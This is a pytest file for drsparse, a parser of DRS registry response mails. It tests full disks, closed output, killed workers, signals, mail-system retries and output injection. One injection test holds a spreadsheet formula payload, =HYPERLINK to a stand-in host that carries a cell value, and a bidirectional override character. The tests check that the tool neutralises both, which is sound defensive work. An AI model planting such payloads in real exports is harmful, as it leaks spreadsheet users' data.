"""Hostile input and a hostile environment, met by the real command in a subprocess.

Output that cannot be written (a full disk, a closed standard output, a reader that has gone),
text that is not UTF-8, formula and bidirectional characters in the output, worker processes
that are killed, signals to the command, and ``--mda`` in a mail system that retries. Each
test holds the smallest input that showed the problem.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import re
import select
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import IO, Any

import pytest

from tests.helpers import ROOT, SAMPLES
from tests.test_cli import Run, run

BLOCK = b"### DRS Response\n###\nresult.code: 10000\n"
COMMAND = [sys.executable, "-m", "drsparse"]


def _mbox(path: Path, bodies: list[bytes]) -> Path:
    """An mbox of messages with these bodies (each after a few headers)."""
    with open(path, "wb") as mbox:
        for number, body in enumerate(bodies, 1):
            mbox.write(b"From drs@knipp.de Fri Oct 25 09:15:02 2024\n")
            mbox.write(f"From: drs@knipp.de\nMessage-ID: <{number}@x>\n".encode())
            mbox.write(body + b"\n")
    return path


def _plain(body: bytes, charset: str = "us-ascii") -> bytes:
    return f"Content-Type: text/plain; charset={charset}\n\n".encode() + body


# -------------------------------------------------------------------------------------------
# Output is always valid UTF-8
# -------------------------------------------------------------------------------------------


def test_a_part_decoding_to_a_lone_surrogate_loses_no_message(tmp_path: Path) -> None:
    # UTF-7 can spell a lone surrogate: "+2AA-" is U+D800, which no UTF-8 writer can encode.
    # The message after it in the mbox was lost with the crash.
    utf7 = _plain(BLOCK + b"result.msg: Hallo +2AA- Welt\n", charset="utf-7")
    done = run("parse", _mbox(tmp_path / "in.mbox", [utf7, _plain(BLOCK)]))
    assert done.status == 0, done.err
    first, second = done.records
    assert first["result"]["msg"] == "Hallo \ufffd Welt"
    assert any("lone surrogates" in warning for warning in first["warnings"])
    assert second["source"].endswith("#2")


def test_mda_answers_such_a_message_once() -> None:
    # It exited 75: the mail system delivered it again and again, a record appended each time.
    utf7 = b"From: drs@knipp.de\n" + _plain(BLOCK + b"result.msg: +2AA-\n", charset="utf-7")
    done = run("--mda", stdin=utf7)
    assert done.status == 0, done.err
    (record,) = done.records
    assert record["result"]["msg"] == "\ufffd"


def test_a_file_name_that_is_not_utf8(tmp_path: Path) -> None:
    maildir = tmp_path / "Maildir"
    (maildir / "cur").mkdir(parents=True)
    (maildir / "cur" / os.fsdecode(b"1.\xff:2,S")).write_bytes(_plain(BLOCK))
    (maildir / "cur" / os.fsdecode(b"2.\xfe:2,S")).write_bytes(b"### DRS Response\n###\nx\n")
    done = run("parse", maildir)
    assert done.status == 1
    response, error = done.records  # valid UTF-8 and valid JSON, both of them
    assert response["source"].endswith("/cur/1.\\xff:2,S")
    assert "not valid UTF-8 in source" in response["warnings"][-1]
    assert error["source"].endswith("/cur/2.\\xfe:2,S")
    assert "not valid UTF-8 in source" in error["message"]
    rows = list(csv.DictReader(io.StringIO(run("parse", "--format", "csv", maildir).out)))
    assert [row["source"][-10:] for row in rows] == ["1.\\xff:2,S", "2.\\xfe:2,S"]


# -------------------------------------------------------------------------------------------
# Output that cannot be written
# -------------------------------------------------------------------------------------------


def _to(stdout: int | IO[Any] | None, *args: str, shell_close: bool = False) -> Run:
    command = [*COMMAND, *args]
    if shell_close:  # started with standard output closed
        command = ["sh", "-c", 'exec "$@" >&-', "sh", *command]
    done = subprocess.run(
        command, stdout=stdout, stderr=subprocess.PIPE, cwd=ROOT, timeout=60, check=False
    )
    return Run(subprocess.CompletedProcess(done.args, done.returncode, b"", done.stderr))


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full")
@pytest.mark.parametrize(
    "args",
    [
        ("parse", "samples/mail/plain-single.eml"),
        ("parse", "--format", "table", "samples/mail/plain-single.eml"),
        ("scan", "samples/mail/plain-single.eml"),
        ("codes",),
    ],
    ids=["parse", "table", "scan", "codes"],
)
def test_a_full_disk_is_one_line_and_status_74(args: tuple[str, ...]) -> None:
    with open("/dev/full", "w") as full:
        done = _to(full, *args)
    assert done.status == 74
    assert done.err_lines == ["drsparse: cannot write the output: No space left on device"]


def test_a_closed_standard_output_is_status_74() -> None:
    done = _to(None, "parse", "samples/mail/plain-single.eml", shell_close=True)
    assert done.status == 74
    assert done.err_lines == ["drsparse: cannot write the output: standard output is closed"]


@pytest.mark.parametrize("jobs", ["1", "2"])
def test_a_reader_that_goes_away_ends_the_run_quietly(tmp_path: Path, jobs: str) -> None:
    mbox = _mbox(tmp_path / "many.mbox", [_plain(BLOCK)] * 3000)
    with subprocess.Popen(
        [*COMMAND, "parse", "-j", jobs, mbox],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        cwd=ROOT,
    ) as process:
        assert process.stdout is not None
        assert process.stderr is not None
        process.stdout.readline()
        process.stdout.close()  # `| head -1`
        status = process.wait(timeout=60)
        err = process.stderr.read()
    assert (status, err) == (141, b"")


# -------------------------------------------------------------------------------------------
# --jobs: limits, workers that die, signals
# -------------------------------------------------------------------------------------------


@pytest.mark.parametrize("jobs", ["100000", "9" * 5000, "-3", "1e3"])
def test_jobs_beyond_reason_are_a_usage_error(jobs: str) -> None:
    done = run("parse", "-j", jobs, "samples/mail/plain-single.eml")
    assert done.status == 2
    assert done.out == ""
    assert "--jobs/-j" in done.err
    if jobs.isdigit():
        assert "per CPU" in done.err


def _descendants(pid: int) -> dict[int, int]:
    """Every process below ``pid``, each with its parent, from /proc."""
    parents = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/stat", "rb") as stat:
                    fields = stat.read().rsplit(b")", 1)[1].split()
            except OSError:
                continue
            parents[int(entry)] = int(fields[1])
    below: dict[int, int] = {}
    frontier = {pid}
    while frontier:
        frontier = {child for child, parent in parents.items() if parent in frontier}
        below.update({child: parents[child] for child in frontier})
    return below


def _workers(pid: int) -> set[int]:
    """The worker processes of the command ``pid``: its children (the first pool is forked by
    the command itself) and those of its fork server (which starts the pools that replace
    one whose worker died), but not that server nor multiprocessing's resource tracker,
    children of the command that run ``python -c "from multiprocessing... import main"``."""
    return {
        child
        for child, parent in _descendants(pid).items()
        if parent != pid or b"from multiprocessing." not in _command_line(child)
    }


def _command_line(pid: int) -> bytes:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as cmdline:
            return cmdline.read()
    except OSError:
        return b""


def _alive(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat", "rb") as stat:
            return stat.read().rsplit(b")", 1)[1].split()[0] != b"Z"
    except OSError:
        return False


@pytest.fixture
def feeding(tmp_path: Path) -> Iterator[subprocess.Popen[bytes]]:
    """``drsparse parse -j 2`` reading an mbox from a pipe that the test writes into."""
    with subprocess.Popen(
        [*COMMAND, "parse", "-j", "2"],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        cwd=ROOT,
    ) as process:
        try:
            yield process
        finally:
            if process.poll() is None:
                process.kill()


def _message(number: int) -> bytes:
    return (
        b"From drs@knipp.de Fri Oct 25 09:15:02 2024\n"
        + f"Message-ID: <{number}@x>\n".encode()
        + _plain(BLOCK)
        + b"\n"
    )


def _readline(stream: IO[bytes], seconds: float = 30) -> bytes:
    ready, _, _ = select.select([stream], [], [], seconds)
    assert ready, "no output in time"
    return stream.readline()


def test_a_killed_worker_loses_no_message(feeding: subprocess.Popen[bytes]) -> None:
    assert feeding.stdin is not None
    assert feeding.stdout is not None
    feeding.stdin.write(b"".join(_message(n) for n in range(1, 5)))
    feeding.stdin.flush()
    first = _readline(feeding.stdout)  # the workers are running
    victim = min(_workers(feeding.pid))
    os.kill(victim, signal.SIGKILL)
    # 40 records fit in the pipe: the output need not be read while the input is written.
    feeding.stdin.write(b"".join(_message(n) for n in range(5, 41)))
    feeding.stdin.close()
    records = [json.loads(line) for line in [first, *feeding.stdout.read().splitlines()]]
    assert feeding.wait(timeout=60) == 0
    assert [record["source"] for record in records] == [f"-#{n}" for n in range(1, 41)]
    assert all(record["type"] == "response" for record in records)


def _slow_message(number: int) -> bytes:
    """A message with a response whose parsing takes a while (50,000 HTML tags)."""
    return (
        b"From drs@knipp.de Fri Oct 25 09:15:02 2024\n"
        + f"Message-ID: <{number}@x>\n".encode()
        + b"Content-Type: multipart/mixed; boundary=b\n\n--b\n"
        + _plain(BLOCK)
        + b"\n--b\nContent-Type: text/html\n\nDRS ###"
        + b"<p>x</p>" * 50_000
        + b"\n--b--\n\n"
    )


@contextlib.contextmanager
def _killing_every_worker(pid: int) -> Iterator[None]:
    """Every worker process of the command ``pid`` killed as soon as it is seen."""
    stop = threading.Event()

    def kill_workers() -> None:
        # A process seen twice: between its fork and its exec, the fork server shows the
        # command line of the command, for a moment shorter than a look at /proc.
        seen: set[int] = set()
        while not stop.is_set():
            workers = _workers(pid)
            for worker in workers & seen:
                with contextlib.suppress(OSError):
                    os.kill(worker, signal.SIGKILL)
            seen = workers
            time.sleep(0.002)

    killer = threading.Thread(target=kill_workers)
    killer.start()
    try:
        yield
    finally:
        stop.set()
        killer.join()


@pytest.mark.parametrize("given", ["pipe", "file"])
def test_workers_that_keep_dying_give_error_records(tmp_path: Path, given: str) -> None:
    # Every worker is killed as soon as it is seen: each message is tried twice, then
    # reported, and the run goes on to the end. From a pipe the command reads the messages;
    # from an mbox file the workers read them, and the command when a worker died.
    mbox = b"".join(map(_slow_message, (1, 2, 3)))
    path = tmp_path / "slow.mbox"
    path.write_bytes(mbox)
    with (
        subprocess.Popen(
            [*COMMAND, "parse", "-j", "2", *([path] if given == "file" else [])],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            cwd=ROOT,
        ) as process,
        _killing_every_worker(process.pid),
    ):
        out, err = process.communicate(mbox if given == "pipe" else b"", timeout=60)
    records = [json.loads(line) for line in out.splitlines()]
    label = "-" if given == "pipe" else str(path)
    assert [record["source"] for record in records] == [f"{label}#{n}" for n in (1, 2, 3)]
    errors = [record for record in records if record["type"] == "error"]
    assert errors, err
    # A worker killed before the fork server could learn how it ended is reported by the
    # server as exit status 255: the cause says so then.
    cause = re.compile("killed by SIGKILL|ended with exit status 255")
    for error in errors:
        assert error["error"] == "InternalError"
        assert cause.search(error["message"]), error["message"]
    assert process.returncode == 1
    assert cause.search(err.decode()), err


@pytest.mark.parametrize("given", ["mbox", "maildir"])
def test_a_killed_worker_loses_no_message_of_a_file(tmp_path: Path, given: str) -> None:
    # The workers read the messages of an mbox file themselves, a span of them at a time, and
    # the files of a Maildir by name: what a worker that died held is read by the command,
    # and its messages parsed again.
    messages = [_slow_message(number) for number in range(1, 9)]
    if given == "mbox":
        path = tmp_path / "slow.mbox"
        path.write_bytes(b"".join(messages))
        sources = [f"{path}#{number}" for number in range(1, 9)]
    else:
        path = tmp_path / "Maildir"
        (path / "cur").mkdir(parents=True)
        for number, message in enumerate(messages, 1):
            # Without the mbox "From " line: a Maildir file is one message.
            (path / "cur" / f"{number}.eml").write_bytes(message.partition(b"\n")[2])
        sources = [str(path / "cur" / f"{number}.eml") for number in range(1, 9)]
    with subprocess.Popen(
        [*COMMAND, "parse", "-j", "2", path], stdout=subprocess.PIPE, stderr=subprocess.PIPE
    ) as process:
        deadline = time.monotonic() + 30
        while not (workers := _workers(process.pid)) and time.monotonic() < deadline:
            time.sleep(0.01)
        time.sleep(0.3)  # the span is being parsed
        for worker in workers:
            with contextlib.suppress(OSError):
                os.kill(worker, signal.SIGKILL)
        out, err = process.communicate(timeout=120)
    records = [json.loads(line) for line in out.splitlines()]
    assert [record["source"] for record in records] == sources
    assert all(record["type"] == "response" for record in records), err
    assert process.returncode == 0
    assert "message(s) it held in the pool are parsed again" in err.decode()


@pytest.mark.parametrize(("stop", "status"), [(signal.SIGTERM, 143), (signal.SIGINT, 130)])
def test_a_signal_stops_the_workers(
    feeding: subprocess.Popen[bytes], stop: signal.Signals, status: int
) -> None:
    assert feeding.stdin is not None
    assert feeding.stdout is not None
    feeding.stdin.write(_message(1) + _message(2))
    feeding.stdin.flush()
    _readline(feeding.stdout)
    workers = _workers(feeding.pid)
    assert workers
    feeding.send_signal(stop)
    assert feeding.wait(timeout=30) == status
    # Nobody holds standard output any more: the reader sees its end.
    assert _readline(feeding.stdout, 10) == b""
    assert feeding.stderr is not None
    assert feeding.stderr.read().decode().splitlines() == [f"drsparse: stopped by {stop.name}"]
    deadline = time.monotonic() + 10
    while any(map(_alive, workers)) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not any(map(_alive, workers))


@pytest.mark.parametrize("jobs", ["1", "2"])
def test_the_readers_warnings_reach_the_records(tmp_path: Path, jobs: str) -> None:
    mbox = tmp_path / "in.mbox"
    mbox.write_bytes(
        b"From a@b Fri Oct 25 09:15:02 2024\n\nhi\n\nFrom drs@knipp.de\n" + _plain(BLOCK)
    )
    (record,) = run("parse", "-j", jobs, mbox).records
    assert record["source"] == f"{mbox}#2"
    assert "has no date (RFC 4155)" in record["warnings"][-1]


# -------------------------------------------------------------------------------------------
# --mda in a mail system that retries
# -------------------------------------------------------------------------------------------


def test_mda_empty_input_is_no_input() -> None:
    done = run("--mda", stdin=b"")
    assert done.status == 66
    assert done.err_lines == ["drsparse: -: standard input is empty: no message to read"]


def test_mda_a_failed_quarantine_writes_no_record(tmp_path: Path) -> None:
    # 75 makes the mail system deliver the message again: a record written before the
    # quarantine failed would be appended once more at every retry.
    (tmp_path / "not-a-folder").write_text("")
    data = (SAMPLES / "invalid" / "malformed-line.txt").read_bytes()
    done = run("--mda", "--quarantine", tmp_path / "not-a-folder", stdin=data)
    assert done.status == 75
    assert done.out == ""
    assert "cannot quarantine" in done.err


# -------------------------------------------------------------------------------------------
# Output injection
# -------------------------------------------------------------------------------------------

INJECTION = (
    BLOCK
    + b'reference: =HYPERLINK("http://x.example/?"&A1)\n'
    + b"result.msg: +SUM(1)\n"
    + b"domain.name: -x.de\n"
)


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
    # A tab and a carriage return can only come from a header: values of pairs are stripped.
    headers = b"From: drs@knipp.de\nMessage-ID: =?utf-8?q?=09=0D1?=\n\n"
    (tmp_path / "@m.eml").write_bytes(headers + INJECTION)
    done = subprocess.run(
        [*COMMAND, "parse", "--format", "csv", "@m.eml"],
        capture_output=True,
        cwd=tmp_path,
        timeout=60,
        check=True,
    )
    (row,) = csv.DictReader(io.StringIO(done.stdout.decode()))
    assert row["reference"] == '\'=HYPERLINK("http://x.example/?"&A1)'
    assert row["msg"] == "'+SUM(1)"
    assert (row["domain"], row["domain_unicode"]) == ("'-x.de", "'-x.de")
    assert (row["source"], row["message_id"]) == ("'@m.eml", "'\t\r1")
    assert row["code"] == "10000"  # what drsparse writes itself is left alone


def test_table_escapes_bidirectional_and_control_characters(tmp_path: Path) -> None:
    (tmp_path / "m.txt").write_bytes(
        BLOCK + "reference: abc\u202edef\ndomain.name: xn--ab-g4t.de\n".encode()
    )
    table = run("parse", "--format", "table", tmp_path / "m.txt").out
    assert "\u202e" not in table
    assert "abc\\u202edef" in table
    assert "xn--ab-g4t.de" in table  # shown as sent: it decodes to U+202E
    (record,) = run("parse", tmp_path / "m.txt").records
    assert record["domain_unicode"] == "xn--ab-g4t.de"
    assert record["warnings"] == [
        "domain.name 'xn--ab-g4t.de' decodes to U+202E, which no domain name holds: "
        "domain_unicode is the name as sent",
        "reference holds U+202E, a control or bidirectional character (shown as an escape "
        "in tables)",
    ]


def test_the_workers_read_a_bounded_window_ahead() -> None:
    # An archive is never read into memory: with the output not consumed, the reading thread
    # stops a bounded number of messages ahead, and every message still comes out in order.
    from drsparse import MailItem, testing
    from drsparse._batch import BATCH, IN_FLIGHT, Options, _pooled, typed

    data = testing.robot_mail(testing.documented("registration-success"))
    read = 0

    def items() -> Iterator[MailItem]:
        nonlocal read
        for n in range(1, 1001):
            read += 1
            yield MailItem(f"box#{n}", data=data)

    results = _pooled(
        items(), Options(), then=typed, jobs=2, note=lambda _: None, waiting=lambda: None
    )
    try:
        item, parsed = next(results)
        time.sleep(0.5)  # as far as the reading thread may go
        assert item.source == "box#1"
        assert isinstance(parsed, list)
        assert 1 < read <= IN_FLIGHT * 2 * BATCH + 1
        sources = [item.source for item, _ in results]
    finally:
        results.close()
    assert sources == [f"box#{n}" for n in range(2, 1001)]
